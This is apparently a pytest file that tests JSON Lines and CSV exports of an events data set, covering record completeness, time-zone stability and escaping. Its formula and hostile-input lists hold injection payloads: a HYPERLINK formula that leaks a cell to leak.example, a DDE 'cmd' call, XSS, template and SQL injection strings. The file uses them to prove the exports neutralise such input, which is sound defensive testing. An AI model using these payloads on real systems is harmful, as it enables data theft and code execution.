"""Exports: every record, in the fields promised, safe to open, the same whatever the time zone."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from events.collection import Collection
from events.exports.csv import COLUMNS, guard, to_csv, unguard
from events.exports.jsonl import to_jsonl
from events.selection import Selection
from events.store import select_records
from geodata.gazetteer import load_gazetteer
from tests.factories import (
    make_article,
    make_chance,
    make_claimant,
    make_collection,
    make_event,
    make_figure,
    make_folder,
    make_mention,
    make_question,
    make_records,
    make_statement,
)

GAZETTEER = load_gazetteer()
REPOSITORY = Path(__file__).resolve().parents[2]


def parsed(chosen: Collection):
    return [json.loads(line) for line in to_jsonl(chosen, GAZETTEER)]


def csv_rows(text: str):
    return list(csv.DictReader(io.StringIO(text, newline="")))


# JSON Lines


def test_jsonl_lists_every_record_once(shipped):
    known = shipped.collection
    tables = (known.articles, known.claimants, known.questions, known.events, known.statements, known.figures)
    chosen = select_records(shipped, Selection())
    lines = parsed(chosen)
    listed = [(one["type"], one[f"{one['type']}_id"]) for one in lines]
    assert len(set(listed)) == len(listed)
    named = {(record.type, key) for table in tables for key, record in table.items()}
    unnamed = named - set(listed)
    assert {kind for kind, _ in unnamed} <= {"claimant", "event", "question"}
    assert {one for one in listed if one[0] != "place"} == named - unnamed


def test_every_type_stands_in_jsonl(shipped):
    types = {one["type"] for one in parsed(select_records(shipped, Selection()))}
    assert types == {"article", "claimant", "statement", "figure", "event", "question", "place"}


def test_a_line_has_all_fields_of_its_record():
    by_type = {one["type"]: one for one in parsed(make_collection())}
    for record in make_records():
        assert set(type(record).model_fields) <= set(by_type[record.type])
        assert json.loads(record.model_dump_json()).items() <= by_type[record.type].items()


def test_statements_and_figures_also_carry_names_and_days():
    lines = {one["type"]: one for one in parsed(make_collection())}
    extra = {
        "claimant_names": ["The ministry"],
        "outlet": "Morning Courier",
        "said_on": "2025-01-09",
        "known_on": "2025-01-09",
        "place_names": ["Sudzha"],
    }
    assert extra.items() <= lines["statement"].items()
    assert extra.items() <= lines["figure"].items()


def test_a_figure_with_a_place_of_its_own_names_that():
    records = [*make_records()[:-1], make_figure(place_id="ru-krs")]
    [figure] = [one for one in parsed(make_collection(*records)) if one["type"] == "figure"]
    assert figure["place_names"] == ["Kursk Oblast"]


@pytest.mark.parametrize(
    ("said_on", "published_on", "known_on"),
    [("2025-01", "2025-03-01", "2025-01-31"), (None, "2025-02", "2025-02-28"), (None, None, None)],
)
def test_known_on_is_the_last_day_said_else_published(said_on, published_on, known_on):
    records = [make_article(published_on=published_on), make_claimant(), make_statement(said_on=said_on)]
    [statement] = [one for one in parsed(make_collection(*records)) if one["type"] == "statement"]
    assert statement["known_on"] == known_on


# CSV


def test_csv_has_a_line_for_each_figure_and_one_for_a_statement_without(shipped):
    chosen = select_records(shipped, Selection())
    rows = csv_rows(to_csv(chosen, GAZETTEER))
    assert {row["statement_id"] for row in rows} == set(chosen.statements)
    assert {row["figure_id"] for row in rows} - {""} == set(chosen.figures)
    without = [one for one in chosen.statements if not chosen.figures_of(one)]
    assert len(rows) == len(chosen.figures) + len(without)


def test_csv_keeps_an_open_bound_open():
    [row] = csv_rows(to_csv(make_collection(), GAZETTEER))
    assert (row["low"], row["high"], row["as_written"]) == ("300", "", "at least 300")
    assert tuple(row) == COLUMNS


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://leak.example/?"&A1,"tap")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "  =1+1",
    "\ufeff=1+1",
]


def is_live(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula, written apart from the guard."""
    bare = cell.lstrip("\t\r\n \u00a0\u200b\ufeff\u2060\x01\x7f")
    return cell.startswith(("\t", "\r", "\n")) or bare.startswith(tuple("=+-@＝＋－＠"))


def fuzz(count):
    """Texts that begin with signs of formulas, blanks, quotes and signs nobody sees."""
    chance = make_chance(count)
    alphabet = "=+-@＝＋－＠\t\r\n '\",;|\u00a0\u200b\ufeff\u2060\x01\x7f1A"
    for _ in range(count):
        yield "".join(chance.choices(alphabet, k=chance.randrange(1, 9)))


@pytest.mark.parametrize("text", [*FORMULAS, *fuzz(500)])
def test_no_cell_starts_live_and_each_reads_back(text):
    assert not is_live(guard(text))
    assert unguard(guard(text)) == text
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([guard(text), "x"])
    assert [unguard(cell) for cell in next(csv.reader(io.StringIO(out.getvalue(), newline="")))] == [text, "x"]


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (300, "300"), (0, "0"), ("at least 300", "at least 300")])
def test_plain_cells_stay_plain(value, cell):
    assert guard(value) == cell


# Hostile words

OWN_HOSTILE = [
    "{{7*191}}", "{% bad", "${alert(1)}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](http://leak.example/p.png)",
    "a\nb", "a\r\nb", "\u2028\u2029\x85", "\u202eabc", '"', "'); DROP TABLE x; --", "\\", "=cmd()", "a,b;c\td\x00",
]  # fmt: skip


def records_saying(text):
    """A data set in which every text field is ``text``."""
    everywhere = {"recorded_by": text}
    return [
        make_article(label=text, outlet=text, title=text, authors=(text,), basis_note=text, **everywhere),
        make_claimant(name=text, also_known_as=(text,), role=text, **everywhere),
        make_event(title=text, places=(make_mention(),), **everywhere),
        make_question(text=text, **everywhere),
        make_statement(gist=text, caveat=text, event_id="e1", relayed_by=("c1",), **everywhere),
        make_figure(unit=text, as_written=text, **everywhere),
    ]


def check_hostile(text):
    chosen = make_collection(*records_saying(text))
    content = "".join(line + "\n" for line in to_jsonl(chosen, GAZETTEER))
    lines = {one["type"]: one for one in map(json.loads, content.splitlines())}
    assert lines["statement"]["gist"] == lines["statement"]["claimant_names"][0] == lines["claimant"]["name"] == text
    assert lines["figure"]["as_written"] == lines["event"]["title"] == text
    [row] = csv_rows(to_csv(chosen, GAZETTEER))
    assert unguard(row["gist"]) == unguard(row["as_written"]) == unguard(row["outlet"]) == text.replace("\x00", "")
    assert not any(is_live(cell) for cell in row.values())


@pytest.mark.parametrize("text", OWN_HOSTILE, ids=ascii)
def test_hostile_words_stay_words(text):
    check_hostile(text)


def test_the_shared_hostile_words_stay_words(hostile_strings):
    storable = [one for one in hostile_strings if 0 < len(one) <= 4000 and is_text(one)]
    assert len(storable) > 80
    for text in storable:
        check_hostile(text)


def is_text(text):
    """Whether the text can be written as UTF-8 at all."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


# Time zones


def exported(folder, zone, *arguments):
    command = [sys.executable, "-m", "dashboard.cli", "export", *arguments, "--data", str(folder)]
    done = subprocess.run(
        command, cwd=REPOSITORY, env=os.environ | {"TZ": zone}, capture_output=True, check=True, timeout=60
    )
    return done.stdout


@pytest.mark.parametrize("arguments", [("jsonl",), ("csv", "--from", "2025-01-09", "--to", "2025-01-09")], ids=str)
def test_exports_are_the_same_in_every_time_zone(tmp_path, arguments):
    folder = make_folder(tmp_path, [*make_records()[:4], make_statement(), make_figure()])
    west, east = (exported(folder, zone, *arguments) for zone in ("America/Los_Angeles", "Pacific/Kiritimati"))
    assert west == east
    assert b"2025-01-09" in west
